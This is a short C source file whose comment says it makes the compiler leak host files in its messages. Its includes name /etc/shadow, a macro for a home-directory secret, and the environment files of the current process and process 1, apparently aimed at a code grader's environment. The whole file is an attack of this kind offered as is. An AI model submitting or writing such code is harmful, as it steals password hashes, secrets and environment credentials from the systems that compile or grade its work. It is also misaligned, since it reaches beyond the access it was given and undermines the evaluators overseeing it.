/* Has the compiler show files of the host's in its messages: passwords, a secret, the environment of the grader. */
#include "host.h"
#include "/etc/shadow"
#include HOST_HOME_SECRET
#include "/proc/self/environ"
#include "/proc/1/environ"
int main(void)
{
    return 0;
}
